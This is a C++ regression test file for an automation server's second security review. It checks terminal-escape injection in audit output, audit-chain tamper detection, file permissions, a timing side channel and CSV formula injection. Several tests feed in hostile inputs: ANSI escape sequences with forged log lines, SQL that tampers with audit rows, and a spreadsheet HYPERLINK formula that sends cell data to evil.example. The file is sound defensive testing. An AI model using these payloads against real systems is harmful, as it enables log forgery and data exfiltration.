// Regression tests of the second security review (issue 19), each on the real binary or the CLI:
// text output escapes control characters, the audit chain's start and anchor are sealed, the
// SQLite file is private and a token's exp must match its record, hidden sudo names answer like
// unknown ones, an idle limit never ends a session in use, and the CSV export neutralizes
// formulas.

#include <sys/stat.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "api_fixture.hpp"
#include "controls_server.hpp"

namespace automation::testing {
namespace {

using nlohmann::json;

// A failed login as nobody in particular, with `username` exactly as given.
void failed_login(HttpClient& http, const std::string& username) {
  const auto refused =
      http.post("/api/users/login", json{{"username", username}, {"password", "wrong-password"}});
  ASSERT_EQ(refused.status, 403) << refused.body;
}

class SecurityReview2 : public ApiTest {};

// The lines of `text`.
std::vector<std::string> lines_with_blanks(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

// The first byte of `text` a terminal acts on (C0 but tab and newline, DEL, C1 in UTF-8,
// ESC), or npos.
std::size_t first_control_byte(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto c = static_cast<unsigned char>(text[i]);
    if ((c < 0x20 && c != '\t' && c != '\n') || c == 0x7F) return i;
    if (c == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) >= 0x80 &&
        static_cast<unsigned char>(text[i + 1]) <= 0x9F) {
      return i;
    }
    if (c == 0xE2 && text.compare(i, 3, "\xe2\x80\xae") == 0) return i;  // U+202E
  }
  return std::string::npos;
}

// Review #5: an anonymous failed login with a username that moves the cursor up, erases the
// screen and carries a forged tab-separated line of its own was printed raw by `audit tail`.
TEST_F(SecurityReview2, AuditTailPrintsNoControlCharacterAndNoForgedLine) {
  const std::string forged = "2020-01-01 00:00:00\tlogin\tsystem\tsystem\t127.0.0.1\tsuccess\t";
  const std::string marker = unique_name("inj");
  const std::string name =
      marker + "\x1b[3A\x1b[J\n" + forged + "\r\n" + forged + "\xc2\x9b" + "2J\xe2\x80\xae\x7f";
  failed_login(http(), name);

  std::string output;
  ASSERT_EQ(server().run_cli({"audit", "tail", "--limit", "20"}, &output), 0) << output;
  EXPECT_EQ(first_control_byte(output), std::string::npos) << output;
  int events_with_marker = 0;
  for (const std::string& line : lines_with_blanks(output)) {
    EXPECT_NE(line.rfind("2020-01-01", 0), 0u) << "a forged line: " << line;
    if (line.find(marker) == std::string::npos) continue;
    ++events_with_marker;
    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 6) << "one event, seven fields: " << line;
    EXPECT_NE(line.find(marker + "\\x1b[3A\\x1b[J\\x0a2020-01-01 00:00:00\\x09login"),
              std::string::npos)
        << line;
    EXPECT_NE(line.find("\\u009b2J\\u202e\\x7f"), std::string::npos) << line;
  }
  EXPECT_EQ(events_with_marker, 1) << output;

  // --json stays plain JSON: the exact text, JSON-escaped.
  ASSERT_EQ(server().run_cli({"audit", "tail", "--limit", "20", "--json"}, &output), 0) << output;
  const auto start = output.find('[');
  ASSERT_NE(start, std::string::npos) << output;
  const json events = json::parse(output.substr(start));
  EXPECT_TRUE(std::any_of(events.begin(), events.end(),
                          [&](const json& event) { return event.at("target") == name; }))
      << output;
}

// Review #5: an error line quotes what the operator (or a script fed by others) typed.
TEST_F(SecurityReview2, CliErrorLinesEscapeWhatTheyQuote) {
  std::string output;
  EXPECT_EQ(server().run_cli({"user", "delete", "--username", "ghost\x1b]0;owned\x07\n" "deleted user"},
                             &output),
            1);
  EXPECT_EQ(first_control_byte(output), std::string::npos) << output;
  EXPECT_EQ(output.find("\ndeleted user"), std::string::npos) << output;
}

// Review #6: with the key out of the database's reach (AUTOMATION_AUDIT_KEY_FILE), someone who
// can write the database made `audit verify` say "intact" after inserting an unsealed,
// back-dated row and moving chain_start_id past it, or after deleting the oldest events and
// moving anchor_seq and anchor_mac to match.
TEST(AuditChainRow, VerifyReportsAMovedStartOrAnchor) {
  const auto dir = std::filesystem::temp_directory_path() /
                   ("automation-review2-key-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  const auto key_file = dir / "audit.key";
  std::ofstream(key_file) << "review2-audit-key-0123456789abcdef0123456789abcdef\n";
  ::chmod(key_file.c_str(), 0600);
  ServerProcess server({{"AUTOMATION_AUDIT_KEY_FILE", key_file.string()}});
  server.start();
  HttpClient http(server.base_url());
  for (int i = 0; i < 4; ++i) {
    ASSERT_EQ(http.post("/api/users/login",
                        json{{"username", "system"}, {"password", kSystemPassword}})
                  .status,
              200);
  }
  ASSERT_EQ(server.stop(), 0);
  std::string output;
  ASSERT_EQ(server.run_cli({"audit", "verify"}, &output), 0) << output;

  // An unsealed, back-dated "success" and the chain's start moved past it.
  const std::string start = query_sql(server, "SELECT chain_start_id FROM audit_chain");
  run_sql(server,
          "INSERT INTO audit_events (time, event, actor, target, address, outcome, reason)"
          " VALUES (1000, 'login', 'system', 'system', '10.6.6.6', 'success', '')");
  run_sql(server, "UPDATE audit_chain SET chain_start_id = (SELECT MAX(id) + 1 FROM audit_events)");
  EXPECT_EQ(server.run_cli({"audit", "verify"}, &output), 1) << output;
  EXPECT_NE(output.find("BROKEN (inserted)"), std::string::npos) << output;
  run_sql(server, "DELETE FROM audit_events WHERE seq IS NULL");
  run_sql(server, "UPDATE audit_chain SET chain_start_id = " + start);
  ASSERT_EQ(server.run_cli({"audit", "verify"}, &output), 0) << "as it was: " << output;

  // The two oldest events deleted, the anchor moved to the second of them.
  const std::string mac2 = query_sql(server, "SELECT mac FROM audit_events WHERE seq = 2");
  run_sql(server, "DELETE FROM audit_events WHERE seq <= 2");
  run_sql(server, "UPDATE audit_chain SET anchor_seq = 2, anchor_mac = '" + mac2 + "'");
  EXPECT_EQ(server.run_cli({"audit", "verify"}, &output), 1) << output;
  EXPECT_NE(output.find("BROKEN (removed)"), std::string::npos) << output;
  EXPECT_NE(output.find("events 1..2 were removed"), std::string::npos) << output;
  std::filesystem::remove_all(dir);
}

// Review #7: the SQLite file and its -wal and -shm files were created world-readable, and
// they hold the TPT secret and the audit key when those are kept in the database.
TEST(SqliteFileModes, ANewDatabaseIsPrivateAndAnExposedOneIsReportedAtStart) {
  if (run_backend() != TestBackend::kSqlite) GTEST_SKIP() << "SQLite files (the default run)";
  const mode_t previous = ::umask(022);  // the usual umask: what made the files 0644
  ServerProcess server(Env{{"AUTOMATION_APP_SECRET_KEY", kUnsetSetting}});
  server.start();
  ::umask(previous);
  HttpClient http(server.base_url());
  ASSERT_EQ(http.post("/api/users/login",
                      json{{"username", "system"}, {"password", kSystemPassword}})
                .status,
            200);
  auto mode_of = [](const std::filesystem::path& path) {
    struct stat info {};
    EXPECT_EQ(::stat(path.c_str(), &info), 0) << path;
    return info.st_mode & 0777;
  };
  const std::string file = server.db_file().string();
  EXPECT_EQ(mode_of(file), 0600u);
  EXPECT_EQ(mode_of(file + "-wal"), 0600u);
  EXPECT_EQ(mode_of(file + "-shm"), 0600u);
  const std::string warning = "can be read by other accounts";
  EXPECT_EQ(server.log().find(warning), std::string::npos) << server.log();
  ASSERT_EQ(server.stop(), 0);

  // An existing database others can read (made so by hand, or by an older version): one
  // warning at start naming it; its mode is left as the operator set it.
  ASSERT_EQ(::chmod(file.c_str(), 0644), 0);
  server.start();
  ASSERT_EQ(server.stop(), 0);
  const std::string log = server.log();
  const auto at = log.find(warning);
  ASSERT_NE(at, std::string::npos) << log;
  EXPECT_NE(log.find(file + " (mode 0644)"), std::string::npos) << log;
  EXPECT_EQ(log.find(warning, at + 1), std::string::npos) << "once";
  EXPECT_EQ(mode_of(file), 0644u);
}

// The value of the sample `series` on /metrics, or -1 when absent.
double metric(HttpClient& http, const std::string& series) {
  const auto response = http.get("/metrics");
  EXPECT_EQ(response.status, 200) << response.body;
  std::istringstream lines(response.body);
  for (std::string line; std::getline(lines, line);) {
    if (line.rfind(series + " ", 0) == 0) return std::stod(line.substr(series.size() + 1));
  }
  return -1;
}

// Review #8: a guest's GET /api/users/system answered 404 in a median 183 us (the hidden sudo
// user came from the cache), an unknown name in 262-273 us (misses were never cached), so
// timing told sudo accounts from missing ones. Unknown names are remembered now: the same
// path, the same time.
TEST_F(SecurityReview2, AHiddenSudoNameAndUnknownNamesTakeTheSameTime) {
  const std::string guest = unique_name("guest");
  create_user(guest, "guest");
  const std::string key = login(guest);
  const std::vector<std::string> unknown = {unique_name("nobody"), unique_name("ghost"),
                                            unique_name("missing"), unique_name("absent")};
  auto get_micros = [&](const std::string& name) {
    const auto start = std::chrono::steady_clock::now();
    const auto response = http().get("/api/users/" + name, api_key(key));
    const auto elapsed = std::chrono::steady_clock::now() - start;
    EXPECT_EQ(response.status, 404) << name << ": " << response.body;
    return std::chrono::duration<double, std::micro>(elapsed).count();
  };
  for (int i = 0; i < 20; ++i) {  // warm: connection, the guest's session, both kinds of name
    get_micros("system");
    for (const auto& name : unknown) get_micros(name);
  }

  // No database read for a name already found missing: the miss counter stands still.
  const double misses = metric(http(), "automation_lookup_cache_misses_total");
  ASSERT_GE(misses, 0);
  for (int i = 0; i < 25; ++i) {
    for (const auto& name : unknown) get_micros(name);
  }
  EXPECT_EQ(metric(http(), "automation_lookup_cache_misses_total"), misses)
      << "repeated unknown names were read from the database again";

  // Interleaved samples, medians compared: the bound is generous for a shared machine, yet
  // below the 45% (80 us) the two paths differed by.
  std::vector<double> sudo_times;
  std::vector<double> unknown_times;
  for (int round = 0; round < 300; ++round) {
    sudo_times.push_back(get_micros("system"));
    unknown_times.push_back(get_micros(unknown[round % unknown.size()]));
  }
  auto median = [](std::vector<double> samples) {
    std::nth_element(samples.begin(), samples.begin() + samples.size() / 2, samples.end());
    return samples[samples.size() / 2];
  };
  const double sudo_median = median(sudo_times);
  const double unknown_median = median(unknown_times);
  RecordProperty("sudo_median_us", std::to_string(sudo_median));
  RecordProperty("unknown_median_us", std::to_string(unknown_median));
  EXPECT_LE(unknown_median, sudo_median * 1.2 + 15)
      << "hidden sudo " << sudo_median << " us, unknown " << unknown_median << " us";
  EXPECT_LE(sudo_median, unknown_median * 1.2 + 15)
      << "hidden sudo " << sudo_median << " us, unknown " << unknown_median << " us";
}

// Review #9: with AUTOMATION_SESSION_IDLE_TIMEOUT=60 a key used every 5 s died at 60.1 s: its
// uses within the minute after the login were not recorded (once a minute at most), and at
// 60 s the login was a whole limit old. Time passes by ageing the rows, never by sleeping.
TEST(IdleSessionLimit, AKeyInUseOutlivesAOneMinuteLimitAndAnUnusedOneEnds) {
  ControlsServer server(Env{{"AUTOMATION_SESSION_IDLE_TIMEOUT", "60"}});
  server.add_user("steady1", "operator");
  server.add_user("gone1", "operator");
  const std::string steady = server.key_of("steady1");
  const std::string gone = server.key_of("gone1");
  for (int i = 0; i < 3; ++i) {  // used every few seconds: nothing recorded within the minute
    ASSERT_EQ(server.http().get("/api/users/me", api_key(steady)).status, 200);
  }
  age_sessions(server, "steady1", 60);  // the minute since the login has passed
  const auto at_the_limit = server.http().get("/api/users/me", api_key(steady));
  EXPECT_EQ(at_the_limit.status, 200) << "used seconds ago: " << at_the_limit.body;

  // Unused since its login: ends once the limit and the recording lag (65 s) have passed.
  age_sessions(server, "gone1", 60 + 65 + 1);
  const auto ended = server.http().get("/api/users/me", api_key(gone));
  EXPECT_EQ(ended.status, 401) << ended.body;
  EXPECT_EQ(ended.json().at("message"), "Invalid token");
  EXPECT_EQ(server.process().stop(), 0);
}

// Review #11: a spreadsheet evaluates a cell that starts with = + - @ tab or CR, quoted or
// not; the CSV export writes such text with an apostrophe in front, the JSON lines exactly.
TEST_F(SecurityReview2, CsvExportNeutralizesFormulasAndJsonLinesStayExact) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")" +
                              unique_name("x");
  failed_login(http(), formula);
  failed_login(http(), "@SUM(1+1)");

  const auto csv = http().get("/api/users/audit/export?format=csv", api_key(system_key()));
  ASSERT_EQ(csv.status, 200) << csv.body;
  std::string quoted = formula;  // as a CSV cell: quotes doubled
  for (std::size_t at = quoted.find('"'); at != std::string::npos; at = quoted.find('"', at + 2)) {
    quoted.insert(at, 1, '"');
  }
  EXPECT_NE(csv.body.find(",\"'" + quoted + "\","), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",\"" + quoted + "\","), std::string::npos) << "left as a formula";
  EXPECT_NE(csv.body.find(",\"'@SUM(1+1)\","), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",\"@SUM(1+1)\","), std::string::npos);

  const auto lines = http().get("/api/users/audit/export", api_key(system_key()));
  ASSERT_EQ(lines.status, 200) << lines.body;
  EXPECT_NE(lines.body.find(json(formula).dump()), std::string::npos) << "JSON lines are exact";
  EXPECT_EQ(lines.body.find("'=HYPERLINK"), std::string::npos);
}

}  // namespace
}  // namespace automation::testing
